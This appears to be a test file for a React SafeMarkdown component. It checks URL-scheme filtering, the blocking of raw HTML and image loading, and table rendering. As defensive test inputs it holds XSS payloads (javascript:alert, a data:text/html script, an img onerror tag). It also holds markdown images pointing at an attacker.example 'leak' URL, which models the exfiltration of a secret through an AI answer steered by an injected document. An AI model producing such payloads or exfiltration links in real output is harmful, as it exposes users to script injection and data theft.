import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import SafeMarkdown, { safeUrl } from './safe-markdown';

describe('safeUrl', () => {
  it.each([
    'http://example.com/a',
    'https://example.com/a?b=c#d',
    'HTTPS://EXAMPLE.COM',
    'irc://irc.example.net/room',
    'ircs://irc.example.net/room',
    'mailto:counsel@example.com',
    'xmpp:counsel@example.com',
  ])('keeps %s', (url) => {
    expect(safeUrl(url)).toBe(url);
  });

  it.each(['javascript:alert(1)', 'JavaScript:alert(1)', 'data:text/html,<script>x</script>', 'vbscript:x', 'file:///etc/passwd', 'ftp://example.com', 'java\tscript:alert(1)'])(
    'drops %s',
    (url) => {
      expect(safeUrl(url)).toBe('');
    },
  );

  it.each(['/projects', 'report#section-2', '?page=2', 'docs/a:b'])('keeps the scheme-less URL %s', (url) => {
    expect(safeUrl(url)).toBe(url);
  });
});

describe('SafeMarkdown', () => {
  it('renders allowed links and turns disallowed ones into plain text', () => {
    render(
      <SafeMarkdown>
        {'[site](https://example.com) [mail](mailto:a@example.com) [bad](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)'}
      </SafeMarkdown>,
    );
    expect(screen.getByRole('link', { name: 'site' })).toHaveAttribute('href', 'https://example.com');
    expect(screen.getByRole('link', { name: 'mail' })).toHaveAttribute('href', 'mailto:a@example.com');
    expect(screen.queryByRole('link', { name: 'bad' })).not.toBeInTheDocument();
    expect(screen.queryByRole('link', { name: 'data' })).not.toBeInTheDocument();
    expect(screen.getByText('bad')).toBeInTheDocument();
    expect(document.querySelector('a[href^="javascript"]')).toBeNull();
  });

  it('loads no image and links nothing unsafe in an answer steered by a document', () => {
    render(
      <SafeMarkdown>
        {'Summary ![client secret](https://attacker.example/leak?q=secret) and ![](//attacker.example/p.png) ![inline](data:image/png;base64,iVBORw0KGgo=) [open](javascript:fetch(1)) [ref][1]\n\n[1]: javascript:alert(1)'}
      </SafeMarkdown>,
    );
    expect(document.querySelector('img')).toBeNull();
    expect(screen.getByText('client secret')).toBeInTheDocument();
    expect(document.querySelector('[href^="javascript"], [href*="attacker"], [src]')).toBeNull();
    expect(screen.queryByRole('link')).toBeNull();
  });

  it('does not render raw HTML', () => {
    render(<SafeMarkdown>{'<img src=x onerror="alert(1)"> plain'}</SafeMarkdown>);
    expect(document.querySelector('img')).toBeNull();
  });
});

describe('SafeMarkdown tables', () => {
  it('renders a GFM table as a table with header and body cells, not as raw pipes', () => {
    render(<SafeMarkdown>{'| Risk | Severity |\n| --- | --- |\n| Uncapped indemnity | High |'}</SafeMarkdown>);
    const table = screen.getByRole('table');
    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual(['Risk', 'Severity']);
    expect(screen.getByRole('cell', { name: 'Uncapped indemnity' })).toBeInTheDocument();
    expect(table.parentElement).toHaveClass('markdown-table');
    // It scrolls sideways when wide, so it can take the keyboard focus.
    expect(table.parentElement).toHaveAttribute('tabindex', '0');
    expect(screen.getByRole('group', { name: 'Table' })).toContainElement(table);
    expect(screen.queryByText(/\|/)).toBeNull();
  });

  it('draws cell borders and padding', () => {
    render(<SafeMarkdown>{'| Risk |\n| --- |\n| High |'}</SafeMarkdown>);
    const cell = screen.getByRole('cell', { name: 'High' });
    expect(getComputedStyle(cell).borderTopStyle).toBe('solid');
    expect(getComputedStyle(cell).paddingLeft).not.toBe('0px');
  });
});
